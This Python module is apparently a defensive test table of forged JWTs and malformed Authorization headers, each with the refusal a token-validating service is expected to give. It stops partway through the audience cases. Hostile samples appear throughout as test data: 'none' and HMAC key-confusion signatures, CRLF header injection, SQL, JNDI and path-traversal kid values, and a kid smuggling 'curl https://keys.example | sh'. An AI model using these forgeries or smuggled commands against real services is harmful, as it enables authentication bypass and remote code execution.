"""The forged-token table: every way in which a token, or its header, can be wrong, as data.

Each class says how it is made, why it is refused, and with what answer. ``FORGERIES`` holds them
all. A class differs from an accepted token in nothing but what its id says, so it is refused for
that and for nothing else.
"""

import base64
import hmac
import json
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Self

from cryptography.hazmat.primitives import serialization

from infra.local import seed
from infra.local.entra.keys import (
    SigningKey,
    b64url,
    make_signing_key,
    sign_compact,
    signature,
    unverified_claims,
)
from infra.local.entra.simulator import EntraSimulator
from shared.errors import (
    AuthorizationMalformed,
    CallerNotAllowed,
    FacadeError,
    ScopeMissing,
    TokenMissing,
    TokenRejected,
    UserTokenRequired,
)

OTHER_TENANT = "3f2c9a51-0b1d-4c52-9d0c-5a3e1e7b6a10"
CONSUMERS_TENANT = "9188040d-6c67-4c5b-b112-36a304b66dad"  # personal Microsoft accounts
UNLISTED_CLIENT = "0a9d6c3e-52f7-4b8e-8f0e-9b1c1d2e3f40"
# ALLOWED_CLIENT_IDS of a service that refuses the whole table.
ALLOWED_CLIENTS = f"{seed.PARTNER_CLIENT_ID},{seed.CONNECTOR_CLIENT_ID}"


@dataclass(frozen=True, slots=True)
class Forger:
    """What forgers have.

    They have tokens of Entra for the asking, a key of their own, and a key that Entra publishes for
    another tenant alone.
    """

    entra: EntraSimulator
    own_key: SigningKey = field(repr=False)
    foreign_key: SigningKey = field(repr=False)

    @classmethod
    def beside(cls, entra: EntraSimulator) -> Self:
        """Make the keys and publish the other tenant's, before anybody fetches the key set."""
        foreign_key = make_signing_key(issuer=f"{entra.base_url}/{OTHER_TENANT}/v2.0")
        entra.publish(foreign_key)
        return cls(entra, make_signing_key(), foreign_key)

    def header(self) -> bytes:
        """Return the header of an accepted token."""
        return json.dumps(
            {"typ": "JWT", "alg": "RS256", "kid": self.entra.current_key.kid}
        ).encode()

    def payload(self) -> bytes:
        """Return the payload of an accepted token."""
        return json.dumps(unverified_claims(self.entra.user_token())).encode()

    def sign(self, header: bytes | None = None, payload: bytes | None = None) -> str:
        """Sign exactly these bytes with the key that Entra signs with."""
        return sign_compact(
            header or self.header(), payload or self.payload(), self.entra.current_key
        )


@dataclass(frozen=True, slots=True)
class Refusal:
    """How a class is refused.

    ``challenge`` tells whether the answer holds a challenge, ``error`` is its error code.
    """

    cause: type[FacadeError]
    status: int
    code: str
    challenge: bool = False
    error: str | None = None


type Make = Callable[[Forger], Sequence[str]]
"""Makes the values of the Authorization headers: one each, as they are before UTF-8."""


@dataclass(frozen=True, slots=True)
class Forgery:
    """One class.

    ``because`` is part of the reason. ``cannot_travel`` says why no HTTP header can hold it, if
    none can.
    """

    id: str
    make: Make
    refusal: Refusal
    because: str
    cannot_travel: str | None = None


MISSING = Refusal(TokenMissing, 401, "missing_token", challenge=True)
MALFORMED = Refusal(
    AuthorizationMalformed, 400, "invalid_request", challenge=True, error="invalid_request"
)
REJECTED = Refusal(TokenRejected, 401, "invalid_token", challenge=True, error="invalid_token")
SCOPE_MISSING = Refusal(
    ScopeMissing, 403, "insufficient_scope", challenge=True, error="insufficient_scope"
)
APP_ONLY = Refusal(UserTokenRequired, 403, "user_token_required")
NOT_ALLOWED = Refusal(CallerNotAllowed, 403, "caller_not_allowed")


# How forgeries are made.


def _values(*values: str) -> Make:
    return lambda forger: values


def _around(write: Callable[[str], str | Sequence[str]]) -> Make:
    """Put an accepted token into a header, or into several."""

    def make(forger: Forger) -> Sequence[str]:
        written = write(forger.entra.user_token())
        return (written,) if isinstance(written, str) else written

    return make


def _token(make: Callable[[Forger], str]) -> Make:
    return lambda forger: (f"Bearer {make(forger)}",)


def _user(**arguments: Any) -> Make:
    return _token(lambda forger: forger.entra.user_token(**arguments))


def _claims(**members: object) -> Make:
    return _user(claims=members)


def _header(**members: object) -> Make:
    return _user(header=members)


def _without(*names: str, **arguments: Any) -> Make:
    return _user(without=names, **arguments)


def _app(**arguments: Any) -> Make:
    return _token(lambda forger: forger.entra.app_token(**arguments))


def _seconds_from_now(**offsets: int) -> Make:
    """Set times relative to Entra's clock."""

    def make(forger: Forger) -> str:
        now = json.loads(forger.payload())["iat"]
        return forger.entra.user_token(
            claims={name: now + offset for name, offset in offsets.items()}
        )

    return _token(make)


def _header_bytes(change: Callable[[bytes], bytes]) -> Make:
    return _token(lambda forger: forger.sign(header=change(forger.header())))


def _payload_bytes(change: Callable[[bytes], bytes]) -> Make:
    return _token(lambda forger: forger.sign(payload=change(forger.payload())))


def _claim_text(claim: str, text: str) -> Make:
    """Write a claim as text that no serializer writes."""
    return _payload_bytes(lambda payload: _append(_drop(payload, claim), claim, text))


def _drop(members: bytes, name: str) -> bytes:
    return json.dumps(
        {other: value for other, value in json.loads(members).items() if other != name}
    ).encode()


def _append(members: bytes, name: str, text: str) -> bytes:
    return members[:-1] + f', "{name}": {text}}}'.encode()


def _parts(change: Callable[[str, str, str], str]) -> Make:
    """Rewrite the three parts of an accepted token."""
    return _token(lambda forger: change(*_split(forger.entra.user_token())))


def _split(token: str) -> tuple[str, str, str]:
    head, payload, signature = token.split(".")
    return head, payload, signature


def _as_algorithm(alg: object, *, signed_as: str = "RS256") -> Make:
    """Name an algorithm, whatever was signed with."""

    def make(forger: Forger) -> str:
        header = json.dumps(
            {"typ": "JWT", "alg": alg, "kid": forger.entra.current_key.kid}
        ).encode()
        return sign_compact(header, forger.payload(), forger.entra.current_key, algorithm=signed_as)

    return _token(make)


def _keyed_hash(secret: Callable[[SigningKey], bytes], algorithm: str = "HS256") -> Make:
    """Sign with a symmetric algorithm and a secret that everybody knows.

    This is the confusion of RFC 8725 section 2.1.
    """

    def make(forger: Forger) -> str:
        head = json.dumps(
            {"typ": "JWT", "alg": algorithm, "kid": forger.entra.current_key.kid}
        ).encode()
        signed = f"{b64url(head)}.{b64url(forger.payload())}"
        key = secret(forger.entra.current_key)
        return f"{signed}.{b64url(hmac.digest(key, signed.encode(), f'sha{algorithm[2:]}'))}"

    return _token(make)


def _pem(key: SigningKey) -> bytes:
    return key.public_pem


def _der(key: SigningKey) -> bytes:
    return key.public_key.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _modulus(key: SigningKey) -> bytes:
    return key.public_key.public_numbers().n.to_bytes(256)


def _earlier(forger: Forger) -> dict[str, object]:
    """Return the times of a token that was issued before anybody looked for its key.

    A younger one that names an unknown key is not refused but asked to come again.
    """
    issued_at = json.loads(forger.payload())["iat"] - 600
    return {"iat": issued_at, "nbf": issued_at}


def _by_forger(tenant_id: str = seed.TENANT_ID, **header: object) -> Make:
    """Sign with the forger's own key; ``kid`` is the real key's unless it is given."""

    def make(forger: Forger) -> str:
        return forger.entra.user_token(
            tenant_id=tenant_id,
            key=forger.own_key,
            header={"kid": forger.entra.current_key.kid, **header},
            claims=_earlier(forger),
        )

    return _token(make)


def _with_forgers_key_inside(forger: Forger) -> str:
    jwk = {name: value for name, value in forger.own_key.jwk().items() if name != "x5c"}
    return forger.entra.user_token(
        key=forger.own_key, header={"kid": forger.own_key.kid, "jwk": jwk}
    )


def _with_forgers_certificate_inside(forger: Forger) -> str:
    return forger.entra.user_token(
        key=forger.own_key, header={"x5c": [base64.b64encode(forger.own_key.certificate).decode()]}
    )


def _compressed(forger: Forger) -> str:
    header = _append(forger.header(), "zip", '"DEF"')
    return forger.sign(header=header, payload=zlib.compress(forger.payload(), wbits=-15))


def _with_signature(bytes_of: Callable[[bytes], bytes]) -> Make:
    return _parts(lambda head, payload, seal: f"{head}.{payload}.{b64url(bytes_of(_decode(seal)))}")


def _decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def _other_spelling(part: str) -> str:
    """Set an unused bit of the last character: another text of the same bytes."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return part[:-1] + alphabet[alphabet.index(part[-1]) + 1]


def _spelled(header: Callable[[str], str] = str, payload: Callable[[str], str] = str) -> Make:
    """Sign another spelling of a part.

    Both parts are filled up with blanks until their encoding leaves bits unused.
    """

    def make(forger: Forger) -> str:
        head, body = (
            b64url(part + b" " * ((1 - len(part)) % 3))
            for part in (forger.header(), forger.payload())
        )
        signed = f"{header(head)}.{payload(body)}"
        return f"{signed}.{b64url(signature(signed.encode(), forger.entra.current_key, 'RS256'))}"

    return _token(make)


def _other_payload(forger: Forger) -> str:
    head, _, signature = _split(forger.entra.user_token())
    return f"{head}.{_split(forger.entra.user_token(seed.MEGAN))[1]}.{signature}"


def _other_signature(forger: Forger) -> str:
    head, payload, _ = _split(forger.entra.user_token())
    return f"{head}.{payload}.{_split(forger.entra.user_token(seed.MEGAN))[2]}"


def _with_audience_of_graph(value: str) -> Make:
    return _token(lambda forger: forger.entra.graph_token(audience=value, header={"nonce": None}))


def _issuer(pattern: str) -> Make:
    """Put ``{host}`` (the authority's address) and ``{bare}`` (without scheme) into an issuer."""

    def make(forger: Forger) -> str:
        host = forger.entra.base_url
        return forger.entra.user_token(
            claims={
                "iss": pattern.replace("{host}", host).replace(
                    "{bare}", host.removeprefix("https://")
                )
            }
        )

    return _token(make)


def _of_other_tenant(version: str = "2.0", **arguments: Any) -> Make:
    return _token(
        lambda forger: forger.entra.user_token(tenant_id=OTHER_TENANT, version=version, **arguments)
    )


_NOT_IN_A_HEADER = (
    "a line break ends a header, and no server takes other control characters in one (RFC 9110 "
    "section 5.5)"
)


def _group(
    refusal: Refusal, because: str, classes: Mapping[str, Make], *, cannot_travel: str | None = None
) -> list[Forgery]:
    return [Forgery(name, make, refusal, because, cannot_travel) for name, make in classes.items()]


_API_URI = f"api://{seed.API_CLIENT_ID}"
_SCOPE = seed.REQUIRED_SCOPE
_OID = seed.ADELE.object_id
_DEEP = 10_000

FORGERIES: tuple[Forgery, ...] = (
    # The header that the token comes in.
    *_group(
        MISSING,
        "No bearer token",
        {
            "no-header": _values(),
            "empty-header": _values(""),
            "blank-header": _values("   "),
            "scheme-basic": _values("Basic YWRlbGU6cGFzc3dvcmQ="),
            "scheme-digest-with-commas": _values(
                'Digest username="adele", realm="contoso", nonce="bearer", response="00"'
            ),
            "scheme-negotiate": _around(lambda token: f"Negotiate {token}"),
            "scheme-jwt": _around(lambda token: f"JWT {token}"),
            "scheme-dpop": _around(lambda token: f"DPoP {token}"),
            "scheme-absent": _around(lambda token: token),
            "scheme-joined-to-the-token": _around(lambda token: f"Bearer{token}"),
            "scheme-with-a-colon": _around(lambda token: f"Bearer: {token}"),
            "scheme-in-quotes": _around(lambda token: f'"Bearer" {token}'),
            "scheme-in-fullwidth-letters": _around(lambda token: f"Ｂｅａｒｅｒ {token}"),  # noqa: RUF001
            "scheme-with-a-cyrillic-letter": _around(lambda token: f"B\u0435arer {token}"),
            "scheme-after-a-zero-width-space": _around(lambda token: f"\u200bBearer {token}"),
            "scheme-after-a-byte-order-mark": _around(lambda token: f"\ufeffBearer {token}"),
            "scheme-then-a-tab": _around(lambda token: f"Bearer\t{token}"),
            "scheme-then-a-no-break-space": _around(lambda token: f"Bearer\u00a0{token}"),
            "two-schemes-neither-bearer": _values("Basic YWRlbGU6cGFzc3dvcmQ=", "Negotiate YIIB"),
        },
    ),
    *_group(
        MISSING,
        "holds no bearer token",
        {"scheme-without-a-token": _values("Bearer"), "scheme-and-blanks": _values("Bearer    ")},
    ),
    *_group(
        MALFORMED,
        "exactly one Authorization header",
        {
            "two-headers-the-same": _around(lambda token: (f"Bearer {token}", f"Bearer {token}")),
            "two-headers-good-first": _around(lambda token: (f"Bearer {token}", "Bearer garbage")),
            "two-headers-good-last": _around(lambda token: ("Bearer garbage", f"Bearer {token}")),
            "two-headers-basic-first": _around(
                lambda token: ("Basic YWRlbGU6cGFzc3dvcmQ=", f"Bearer {token}")
            ),
            "two-headers-basic-last": _around(
                lambda token: (f"Bearer {token}", "Basic YWRlbGU6cGFzc3dvcmQ=")
            ),
            "two-headers-second-empty": _around(lambda token: (f"Bearer {token}", "")),
            "two-headers-first-empty": _around(lambda token: ("", f"Bearer {token}")),
            "three-headers": _around(lambda token: (f"Bearer {token}",) * 3),
            "one-header-two-tokens": _around(lambda token: f"Bearer {token}, Bearer {token}"),
            "one-header-with-a-parameter": _around(
                lambda token: f'Bearer {token}, realm="contoso"'
            ),
            "two-headers-other-case": _around(lambda token: (f"bearer {token}", f"BEARER {token}")),
        },
    ),
    # The token's shape.
    *_group(
        REJECTED,
        "not a signed JWT",
        {
            "garbage": _values("Bearer garbage"),
            "two-tokens-with-a-blank": _around(lambda token: f"Bearer {token} {token}"),
            "token-in-quotes": _around(lambda token: f'Bearer "{token}"'),
            "token-as-parameter": _around(lambda token: f"Bearer access_token={token}"),
            "token-percent-encoded": _around(lambda token: f"Bearer {token.replace('.', '%2E')}"),
            "token-with-a-blank-inside": _around(
                lambda token: f"Bearer {token[:100]} {token[100:]}"
            ),
            "token-with-a-tab-inside": _around(
                lambda token: f"Bearer {token[:100]}\t{token[100:]}"
            ),
            "token-after-a-no-break-space": _around(lambda token: f"Bearer \u00a0{token}"),
            "token-then-a-no-break-space": _around(lambda token: f"Bearer {token}\u00a0"),
            "token-then-an-em-space": _around(lambda token: f"Bearer {token}\u2003"),
            "token-then-a-line-separator": _around(lambda token: f"Bearer {token}\u2028"),
            "token-then-a-next-line": _around(lambda token: f"Bearer {token}\u0085"),
            "token-with-a-zero-width-space": _around(
                lambda token: f"Bearer {token[:100]}\u200b{token[100:]}"
            ),
            "token-with-a-soft-hyphen": _around(
                lambda token: f"Bearer {token[:100]}\u00ad{token[100:]}"
            ),
            "token-after-a-byte-order-mark": _around(lambda token: f"Bearer \ufeff{token}"),
            "token-with-fullwidth-stops": _around(
                lambda token: f"Bearer {token.replace('.', '\uff0e')}"
            ),
            "token-with-a-fullwidth-letter": _around(
                lambda token: f"Bearer {token.replace('e', '\uff45', 1)}"
            ),
            "token-with-a-cyrillic-letter": _around(
                lambda token: f"Bearer {token.replace('e', '\u0435', 1)}"
            ),
            "token-with-a-combining-accent": _around(lambda token: f"Bearer {token}\u0301"),
            "parts-one": _parts(lambda head, payload, seal: head),
            "parts-two": _parts(lambda head, payload, seal: f"{head}.{payload}"),
            "parts-four": _parts(lambda head, payload, seal: f"{head}.{payload}.{seal}.{seal}"),
            "parts-five-as-encrypted": _token(
                lambda forger: ".".join(
                    (
                        b64url(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'),
                        *(b64url(bytes(size)) for size in (256, 12, 400, 16)),
                    )
                )
            ),
            "parts-all-empty": _values("Bearer .."),
            "parts-header-empty": _parts(lambda head, payload, seal: f".{payload}.{seal}"),
            "parts-payload-empty": _parts(lambda head, payload, seal: f"{head}..{seal}"),
            "parts-signature-empty": _parts(lambda head, payload, seal: f"{head}.{payload}."),
            **{
                f"alg-{alg}-unsigned": _as_algorithm(alg, signed_as="none")
                for alg in ("none", "None", "NONE", "nOnE", "RS256")
            },
            "parts-leading-stop": _around(lambda token: f"Bearer .{token}"),
            "parts-trailing-stop": _around(lambda token: f"Bearer {token}."),
            "parts-as-json-serialization": _parts(
                lambda head, payload, seal: json.dumps(
                    {"protected": head, "payload": payload, "signature": seal}
                ).replace(",", ";")
            ),
            "encoding-padded": _parts(lambda head, payload, seal: f"{head}.{payload}.{seal}=="),
            "encoding-header-padded": _parts(
                lambda head, payload, seal: f"{head}=.{payload}.{seal}"
            ),
            "encoding-plain-base64": _parts(
                lambda head, payload, seal: f"{head}.{payload}.{seal[:-4]}+/{seal[-2:]}"
            ),
            "encoding-not-base64": _parts(lambda head, payload, seal: f"{head}.{payload}!.{seal}"),
        },
    ),
    *_group(
        REJECTED,
        "not a signed JWT",
        {
            "token-with-a-line-break": _around(
                lambda token: f"Bearer {token[:100]}\n{token[100:]}"
            ),
            "token-then-a-line-break": _around(lambda token: f"Bearer {token}\n"),
            "token-then-a-header-of-the-forgers": _around(
                lambda token: f"Bearer {token}\r\nX-MS-CLIENT-PRINCIPAL-ID: {_OID}"
            ),
            "token-with-a-null": _around(lambda token: f"Bearer {token[:100]}\x00{token[100:]}"),
            "token-then-a-null": _around(lambda token: f"Bearer {token}\x00"),
            "token-then-a-unit-separator": _around(lambda token: f"Bearer {token}\x1f"),
        },
        cannot_travel=_NOT_IN_A_HEADER,
    ),
    *_group(
        REJECTED,
        "too large",
        {
            "oversized-by-a-claim": _claims(padding="a" * 13_000),
            "oversized-by-a-header": _header(padding="a" * 13_000),
            "oversized-garbage": _values(f"Bearer {'a' * 17 * 1024}"),
            "oversized-stops": _values(f"Bearer {'.' * 17 * 1024}"),
            "oversized-by-10,000-levels": _claim_text("deep", "[" * _DEEP + "]" * _DEEP),
        },
    ),
    *_group(
        REJECTED,
        "not a readable JWT",
        {
            "encoding-header-of-impossible-length": _parts(
                lambda head, payload, seal: f"{head}{'A' * ((1 - len(head)) % 4)}.{payload}.{seal}"
            ),
            "encoding-header-other-spelling": _spelled(header=_other_spelling),
            "encoding-payload-other-spelling": _spelled(payload=_other_spelling),
            "header-not-json": _header_bytes(lambda header: b"RS256"),
            "header-a-list": _header_bytes(lambda header: b"[" + header + b"]"),
            "header-a-text": _header_bytes(lambda header: json.dumps(header.decode()).encode()),
            "header-null": _header_bytes(lambda header: b"null"),
            "header-with-an-end-too-many": _header_bytes(lambda header: header + b"}"),
            "header-in-utf-16": _header_bytes(lambda header: header.decode().encode("utf-16")),
            "header-with-a-byte-order-mark": _header_bytes(lambda header: b"\xef\xbb\xbf" + header),
            "header-not-utf-8": _header_bytes(lambda header: header.replace(b"JWT", b"JWT\xff")),
            "header-alg-twice-good-last": _header_bytes(
                lambda header: header.replace(b"{", b'{"alg": "none", ', 1)
            ),
            "header-alg-twice-good-first": _header_bytes(
                lambda header: _append(header, "alg", '"none"')
            ),
            "header-alg-twice-escaped": _header_bytes(
                lambda header: _append(header, "\\u0061lg", '"none"')
            ),
            "header-kid-twice": _header_bytes(
                lambda header: header.replace(b"{", b'{"kid": "forged", ', 1)
            ),
            "header-nested-10,000-deep": _header_bytes(
                lambda header: header[:-1] + b', "deep": ' + b"[" * _DEEP
            ),
            "payload-not-json": _payload_bytes(lambda payload: b"claims"),
            "payload-a-list": _payload_bytes(lambda payload: b"[" + payload + b"]"),
            "payload-a-text": _payload_bytes(lambda payload: json.dumps(payload.decode()).encode()),
            "payload-a-number": _payload_bytes(lambda payload: b"1"),
            "payload-null": _payload_bytes(lambda payload: b"null"),
            "payload-a-token": _token(
                lambda forger: forger.sign(payload=forger.entra.user_token().encode())
            ),
            "payload-with-an-end-too-many": _payload_bytes(lambda payload: payload + b"}"),
            "payload-then-a-null": _payload_bytes(lambda payload: payload + b"\x00"),
            "payload-then-another": _payload_bytes(lambda payload: payload + payload),
            "payload-with-a-comment": _payload_bytes(lambda payload: payload[:-1] + b"/* */}"),
            "payload-with-a-trailing-comma": _payload_bytes(lambda payload: payload[:-1] + b",}"),
            "payload-in-single-quotes": _payload_bytes(lambda payload: payload.replace(b'"', b"'")),
            "payload-compressed": _payload_bytes(lambda payload: zlib.compress(payload, wbits=-15)),
            "payload-in-utf-16": _payload_bytes(lambda payload: payload.decode().encode("utf-16")),
            "payload-in-utf-16-unmarked": _payload_bytes(
                lambda payload: payload.decode().encode("utf-16-le")
            ),
            "payload-in-utf-32": _payload_bytes(
                lambda payload: payload.decode().encode("utf-32-be")
            ),
            "payload-with-a-byte-order-mark": _payload_bytes(
                lambda payload: b"\xef\xbb\xbf" + payload
            ),
            "payload-in-latin-1": _payload_bytes(
                lambda payload: payload.replace(b"Vance", b"Vanc\xe9")
            ),
            "payload-with-overlong-utf-8": _payload_bytes(
                lambda payload: payload.replace(b"Vance", b"Vanc\xc1\xa5")
            ),
            "payload-aud-twice-good-last": _payload_bytes(
                lambda payload: payload.replace(b"{", b'{"aud": "forged", ', 1)
            ),
            "payload-oid-twice-good-first": _payload_bytes(
                lambda payload: _append(payload, "oid", f'"{seed.MEGAN.object_id}"')
            ),
            "payload-oid-twice-escaped": _payload_bytes(
                lambda payload: _append(payload, "\\u006fid", f'"{seed.MEGAN.object_id}"')
            ),
            "payload-oid-twice-the-same": _payload_bytes(
                lambda payload: _append(payload, "oid", f'"{_OID}"')
            ),
            "payload-twice-further-down": _payload_bytes(
                lambda payload: _append(payload, "cnf", '{"kid": 1, "kid": 2}')
            ),
            "payload-nested-10,000-deep": _payload_bytes(
                lambda payload: payload[:-1] + b', "deep": ' + b"[" * _DEEP
            ),
            "payload-objects-nested-deep": _payload_bytes(
                lambda payload: payload[:-1] + b', "deep": ' + b'{"":' * 2_500
            ),
            "payload-not-a-number-elsewhere": _claim_text("padding", "NaN"),
            "payload-number-of-5,000-digits": _claim_text("padding", "9" * 5_000),
            "exp-not-a-number": _claim_text("exp", "NaN"),
            "exp-infinity": _claim_text("exp", "Infinity"),
            "exp-minus-infinity": _claim_text("exp", "-Infinity"),
            "exp-of-5,000-digits": _claim_text("exp", "9" * 5_000),
            "exp-in-hexadecimal": _claim_text("exp", "0x7fffffff"),
            "exp-with-underscores": _claim_text("exp", "4_000_000_000"),
            "exp-with-a-plus": _claim_text("exp", "+4000000000"),
            "exp-with-leading-zeros": _claim_text("exp", "04000000000"),
        },
    ),
    # How it is signed.
    *_group(
        REJECTED,
        "not signed with RS256",
        {
            "alg-none-with-a-signature": _parts(
                lambda head, payload, seal: (
                    f"{b64url(b'{"typ":"JWT","alg":"none"}')}.{payload}.{seal}"
                )
            ),
            "alg-absent": _header(alg=None),
            **{
                f"alg-{name}": _as_algorithm(alg)
                for name, alg in {
                    "none": "none",
                    "none-capitalized": "None",
                    "none-in-capitals": "NONE",
                    "none-in-mixed-case": "nOnE",
                    "none-then-a-blank": "none ",
                    "null": None,
                    "empty": "",
                    "a-list": ["RS256"],
                    "a-number": 256,
                    "true": True,
                    "rs256-in-small-letters": "rs256",
                    "rs256-then-a-blank": "RS256 ",
                    "rs256-then-a-null": "RS256\0",
                    "rs256-in-fullwidth": "\uff32\uff33256",
                    "es256": "ES256",
                    "es256k": "ES256K",
                    "eddsa": "EdDSA",
                    "rsa1-5": "RSA1_5",
                    "rsa-oaep": "RSA-OAEP",
                    "dir": "dir",
                    "unknown": "XX256",
                }.items()
            },
            **{
                f"alg-{name.lower()}": _header(alg=name)
                for name in ("RS384", "RS512", "PS256", "PS384", "PS512")
            },
            **{
                f"alg-{name.lower()}-with-the-public-pem": _keyed_hash(_pem, name)
                for name in ("HS256", "HS384", "HS512")
            },
            **{
                f"alg-{name.lower()}-with-the-public-der": _keyed_hash(_der, name)
                for name in ("HS256", "HS384", "HS512")
            },
            **{
                f"alg-{name.lower()}-with-the-modulus": _keyed_hash(_modulus, name)
                for name in ("HS256", "HS384", "HS512")
            },
            "alg-hs256-with-the-certificate": _keyed_hash(lambda key: key.certificate),
            "alg-hs256-with-the-kid": _keyed_hash(lambda key: key.kid.encode()),
            "alg-hs256-with-an-empty-secret": _keyed_hash(lambda key: b""),
        },
    ),
    *_group(
        REJECTED,
        "tells how to check it",
        {
            "header-jku": _header(jku="https://keys.example/keys"),
            "header-jku-with-the-forgers-key": _token(
                lambda forger: forger.entra.user_token(
                    key=forger.own_key, header={"jku": "https://keys.example/keys"}
                )
            ),
            "header-x5u": _header(x5u="https://keys.example/certificate.pem"),
            "header-jwk": _header(jwk={"kty": "RSA", "e": "AQAB", "n": "AQAB"}),
            "header-jwk-with-the-forgers-key": _token(_with_forgers_key_inside),
            "header-x5c": _header(x5c=["MIIB"]),
            "header-x5c-with-the-forgers-certificate": _token(_with_forgers_certificate_inside),
            "header-crit-exp": _header(crit=["exp"]),
            "header-crit-unknown": _header(crit=["x-forged"], **{"x-forged": True}),
            "header-crit-empty": _header(crit=[]),
            "header-b64-false": _header(b64=False),
            "header-b64-false-and-crit": _header(b64=False, crit=["b64"]),
            "header-b64-true": _header(b64=True),
            "header-zip": _header(zip="DEF"),
            "header-zip-and-a-compressed-payload": _token(_compressed),
            "header-cty-jwt": _header(cty="JWT"),
            "header-enc": _header(enc="A256GCM"),
        },
    ),
    *_group(
        REJECTED,
        "not of the type JWT",
        {
            "typ-id-token": _header(typ="id_token+jwt"),
            "typ-logout-token": _header(typ="logout+jwt"),
            "typ-dpop-proof": _header(typ="dpop+jwt"),
            "typ-encrypted": _header(typ="JWE"),
            "typ-a-list": _header(typ=["JWT"]),
            "typ-a-number": _header(typ=1),
            "typ-empty": _header(typ=""),
            "typ-null": _header_bytes(lambda header: header.replace(b'"JWT"', b"null")),
        },
    ),
    *_group(
        REJECTED,
        "not name the key",
        {
            "kid-absent": _header(kid=None),
            "kid-null": _header_bytes(
                lambda header: header[: header.index(b'"kid"')] + b'"kid": null}'
            ),
            "kid-empty": _header(kid=""),
            "kid-a-number": _header(kid=1),
            "kid-true": _header(kid=True),
            "kid-a-list": _token(
                lambda forger: forger.entra.user_token(
                    header={"kid": [forger.entra.current_key.kid]}
                )
            ),
            "kid-an-object": _token(
                lambda forger: forger.entra.user_token(header={"kid": {"$ne": ""}})
            ),
            "kid-very-long": _header(kid="a" * 10_000),
            "kid-path-very-long": _header(kid="../" * 1_000 + "dev/null"),
        },
    ),
    *_group(
        REJECTED,
        "not one that Entra publishes",
        {
            "kid-unknown": _token(
                lambda forger: forger.entra.user_token(key=forger.own_key, claims=_earlier(forger))
            ),
            "kid-of-another-case": _token(
                lambda forger: forger.entra.user_token(
                    header={"kid": forger.entra.current_key.kid.swapcase()},
                    claims=_earlier(forger),
                )
            ),
            "kid-then-a-blank": _token(
                lambda forger: forger.entra.user_token(
                    header={"kid": f"{forger.entra.current_key.kid} "},
                    claims=_earlier(forger),
                )
            ),
            "kid-then-a-null": _token(
                lambda forger: forger.entra.user_token(
                    header={"kid": f"{forger.entra.current_key.kid}\0"},
                    claims=_earlier(forger),
                )
            ),
            "kid-then-a-line-break": _token(
                lambda forger: forger.entra.user_token(
                    header={"kid": f"{forger.entra.current_key.kid}\n"},
                    claims=_earlier(forger),
                )
            ),
            "kid-a-path": _by_forger(kid="../../../../../../dev/null"),
            "kid-a-windows-path": _by_forger(kid="..\\..\\..\\windows\\win.ini"),
            "kid-a-url": _by_forger(kid="https://keys.example/keys#1"),
            "kid-sql": _by_forger(kid="' UNION SELECT 'secret' -- "),
            "kid-a-command": _by_forger(kid="key; curl https://keys.example | sh"),
            "kid-a-template": _by_forger(kid="${jndi:ldap://keys.example/a}{{7*7}}%s%n"),
            "kid-a-header-of-the-forgers": _by_forger(kid="key\r\nSet-Cookie: forged=1"),
            "kid-a-log-line": _by_forger(kid="key\nlevel=INFO outcome=cancelled"),
            "kid-an-attribute": _by_forger(kid="__class__"),
            "kid-a-wildcard": _by_forger(kid="*"),
            "kid-not-ascii": _by_forger(kid="ключ-🔑"),
            "kid-half-a-character": _by_forger(kid="\ud83d"),
        },
    ),
    *_group(
        REJECTED,
        "signature is not valid",
        {
            "key-the-forgers": _by_forger(),
            "key-the-forgers-with-its-thumbprint": _token(
                lambda forger: forger.entra.user_token(
                    version="1.0",
                    key=forger.own_key,
                    header={"kid": forger.entra.current_key.kid, "x5t": forger.own_key.kid},
                )
            ),
            "key-another-published": _token(
                lambda forger: forger.entra.user_token(
                    key=forger.foreign_key, header={"kid": forger.entra.current_key.kid}
                )
            ),
            "signature-truncated": _with_signature(lambda seal: seal[:-1]),
            "signature-halved": _with_signature(lambda seal: seal[:128]),
            "signature-longer": _with_signature(lambda seal: seal + b"\0"),
            "signature-with-a-leading-zero": _with_signature(lambda seal: b"\0" + seal),
            "signature-one-bit-off": _with_signature(
                lambda seal: seal[:-1] + bytes([seal[-1] ^ 1])
            ),
            "signature-zeros": _with_signature(lambda seal: bytes(256)),
            "signature-one": _with_signature(lambda seal: (1).to_bytes(256)),
            "signature-larger-than-the-modulus": _with_signature(lambda seal: b"\xff" * 256),
            "signature-of-one-byte": _with_signature(lambda seal: b"\0"),
            "signature-twice": _with_signature(lambda seal: seal * 2),
            "signature-of-another-token": _token(_other_signature),
            "signature-other-spelling": _parts(
                lambda head, payload, seal: f"{head}.{payload}.{_other_spelling(seal)}"
            ),
            "signature-of-impossible-length": _parts(
                lambda head, payload, seal: f"{head}.{payload}.{seal}AAA"
            ),
            "signature-a-keyed-hash": _as_algorithm("RS256", signed_as="HS256"),
            "signature-of-rs512": _as_algorithm("RS256", signed_as="RS512"),
            "signature-of-ps256": _as_algorithm("RS256", signed_as="PS256"),
            "payload-swapped": _token(_other_payload),
            "header-changed": _parts(
                lambda head, payload, seal: f"{b64url(_decode(head) + b' ')}.{payload}.{seal}"
            ),
            "payload-nested-as-deep-as-fits": _token(
                lambda forger: sign_compact(
                    forger.header(),
                    _append(forger.payload(), "deep", "[" * 5_000 + "]" * 5_000),
                    forger.own_key,
                )
            ),
            "tenant-other-by-the-forger": _by_forger(OTHER_TENANT),
            "tenant-consumers-by-the-forger": _by_forger(CONSUMERS_TENANT),
        },
    ),
    *_group(
        REJECTED,
        "not one that Entra publishes",
        {"tenant-other-by-the-forger-unknown-kid": _by_forger(OTHER_TENANT, kid="forged")},
    ),
    *_group(
        REJECTED,
        "does not belong to its issuer",
        {
            "key-of-another-tenant": _token(
                lambda forger: forger.entra.user_token(key=forger.foreign_key)
            ),
            "key-of-another-tenant-for-its-tenant": _token(
                lambda forger: forger.entra.user_token(
                    tenant_id=OTHER_TENANT, key=forger.foreign_key
                )
            ),
        },
    ),
    # Whom it is for.
    *_group(
        REJECTED,
        "for another API",
        {
            "aud-another-api": _claims(aud="11111111-2222-3333-4444-555555555555"),
            "aud-another-api-by-address": _claims(aud="https://api.contoso.com"),
            "aud-the-client": _claims(aud=seed.PARTNER_CLIENT_ID),
            "aud-absent": _without("aud"),
            "aud-null": _claims(aud=None),
